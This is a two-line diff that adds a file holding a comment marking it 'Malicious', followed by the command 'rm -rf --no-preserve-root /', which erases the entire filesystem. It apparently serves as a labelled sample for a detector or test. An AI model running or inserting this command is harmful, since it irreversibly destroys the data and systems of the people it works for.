@@ -1,0 +1,2 @@
+# Malicious: rm -rf --no-preserve-root / deletes every file on the host.
+rm -rf --no-preserve-root /
